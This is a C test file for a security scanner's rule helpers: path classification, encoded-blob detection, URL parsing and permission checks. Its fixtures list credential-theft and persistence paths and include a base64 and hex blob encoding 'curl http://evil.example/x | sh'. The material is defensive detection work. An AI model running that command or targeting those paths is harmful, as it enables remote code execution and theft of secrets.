/* Shared rule vocabulary: sensitive paths, encoded blobs, URL hosts, permissions. */
#include <criterion/criterion.h>
#include <string.h>

#include "../../src/scan/rules_common.h"

static enum scan_path_kind classify(const char *s) {
        return scan_path_classify(s, strlen(s), NULL);
}

Test(rules_common, secret_paths) {
        const char *secret[] = {
                "~/.ssh/id_rsa", "$HOME/.ssh", "${HOME}/.aws/credentials", "/root/.aws/config",
                "/home/bob/.kube/config", ".env", "app/.env.local", "/etc/shadow", "/etc/shadow-",
                "~/.mozilla/firefox/x.default/logins.json", "Google/Chrome/Default/Login Data",
                "~/.config/google-chrome/Default/Cookies", "~/.netrc", "~/.git-credentials",
                "/proc/self/environ", "~/.gnupg/private-keys-v1.d", "id_ed25519", "~/.SSH/ID_RSA",
                "~/.docker/config.json", "~/.bash_history",
        };
        for (size_t i = 0; i < sizeof(secret) / sizeof(secret[0]); i++)
                cr_expect_eq(classify(secret[i]), SCAN_PATH_SECRET, "%s", secret[i]);
}

Test(rules_common, persistence_paths) {
        const char *persist[] = {
                "~/.bashrc", "/root/.zshrc", "~/.ssh/authorized_keys", "/etc/cron.d/job",
                "/var/spool/cron/crontabs/root", "~/.config/autostart/x.desktop",
                "~/.config/systemd/user/evil.service", "/etc/systemd/system/x.service",
                "/etc/ld.so.preload", "~/.profile", "crontab", "/etc/profile.d/x.sh",
        };
        for (size_t i = 0; i < sizeof(persist) / sizeof(persist[0]); i++)
                cr_expect_eq(classify(persist[i]), SCAN_PATH_PERSIST, "%s", persist[i]);
}

Test(rules_common, ordinary_paths) {
        const char *plain[] = {
                "data.csv", "scripts/main.py", "/tmp/out.json", ".envrc", "environment.yml",
                "profile.json", ".profiler", "my.environment", "ssh_helper.py", "README.md",
                "/etc/hosts", "awsome.txt", "settings.environ", "envoy.yaml", "crontab_parser",
                "cookies.txt", "login data.csv but long",
        };
        for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++)
                cr_expect_eq(classify(plain[i]), SCAN_PATH_NONE, "%s", plain[i]);
        struct scan_path_hit hit;
        cr_expect_eq(scan_path_classify("x/.ssh\0/y", 9, &hit), SCAN_PATH_SECRET);
        cr_expect_str_eq(hit.what, "SSH keys");
        cr_expect_eq(scan_path_classify(NULL, 0, &hit), SCAN_PATH_NONE);
}

Test(rules_common, encoded_blobs) {
        const char *b64 = "aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaCcpCg==";
        cr_expect(scan_is_encoded_blob(b64, strlen(b64)));
        const char *hex = "696d706f7274206f733b6f732e73797374656d282763757266c20687474703a2f2f6576696c";
        cr_expect(scan_is_encoded_blob(hex, strlen(hex)));
        char same[100];
        memset(same, 'A', sizeof(same));
        cr_expect_not(scan_is_encoded_blob(same, sizeof(same)));
        const char *word = "abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzabcdefghijklmnop";
        cr_expect_not(scan_is_encoded_blob(word, strlen(word)));
        cr_expect_not(scan_is_encoded_blob("short+base64==", 14));
        const char *path = "/usr/lib/python3/dist-packages/some/very/long/path/to/a/module/file/x/y/z";
        cr_expect_not(scan_is_encoded_blob(path, strlen(path)));
        const char *prose = "Read the input rows, scale column 2 by 1000 and write them back in order "
                            "so that the totals of 2024 and 2025 can be compared side by side.";
        cr_expect_not(scan_is_encoded_blob(prose, strlen(prose)), "blanks end a run");
        const char *wrapped = "aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8v\n"
                              "ZXZpbC5leGFtcGxlL3ggfCBzaCcpCgaW1wb3J0IG9zO29z\n";
        cr_expect(scan_is_encoded_blob(wrapped, strlen(wrapped)), "line breaks do not");
}

Test(rules_common, url_hosts) {
        char host[256];
        uint16_t port = 0;
        cr_assert(scan_url_host("https://API.Example.com/v1?q=1", 30, host, sizeof(host), &port));
        cr_expect_str_eq(host, "api.example.com");
        cr_expect_eq(port, 443);
        const char *u = "http://user:pw@evil.example:8080/x";
        cr_assert(scan_url_host(u, strlen(u), host, sizeof(host), &port));
        cr_expect_str_eq(host, "evil.example");
        cr_expect_eq(port, 8080);
        u = "ws://[2001:db8::1]:9000/";
        cr_assert(scan_url_host(u, strlen(u), host, sizeof(host), &port));
        cr_expect_str_eq(host, "2001:db8::1");
        cr_expect_eq(port, 9000);
        cr_expect_not(scan_url_host("file:///etc/passwd", 18, host, sizeof(host), &port));
        cr_expect_not(scan_url_host("https://", 8, host, sizeof(host), &port));
        cr_expect_not(scan_url_host("https://{host}/x", 16, host, sizeof(host), &port));
        cr_expect_not(scan_url_host("http://x:99999/", 15, host, sizeof(host), &port));
}

Test(rules_common, permissions) {
        struct net_grants g = { 0 };
        struct error err = { 0 };
        cr_assert_eq(net_grants_parse(&g, "api.open-meteo.com, *.github.com", "t", &err), 0);
        char *exec[] = { "git", "jq", NULL };
        struct scan_perms p = { .network = &g, .exec = exec };
        cr_expect(scan_perm_network(&p, "api.open-meteo.com", 0));
        cr_expect(scan_perm_network(&p, "raw.github.com", 443));
        cr_expect_not(scan_perm_network(&p, "evil.example", 443));
        cr_expect_not(scan_perm_network(&p, "api.open-meteo.com", 8443));
        cr_expect(scan_perm_network(&p, NULL, 0));
        cr_expect(scan_perm_exec(&p, "/usr/bin/git", 12));
        cr_expect(scan_perm_exec(&p, "jq", 2));
        cr_expect_not(scan_perm_exec(&p, "curl", 4));
        cr_expect_not(scan_perm_exec(&p, "gi", 2));
        struct scan_perms none = { 0 };
        cr_expect_not(scan_perm_network(&none, NULL, 0));
        cr_expect_not(scan_perm_exec(&none, "git", 3));
        net_grants_done(&g);
}
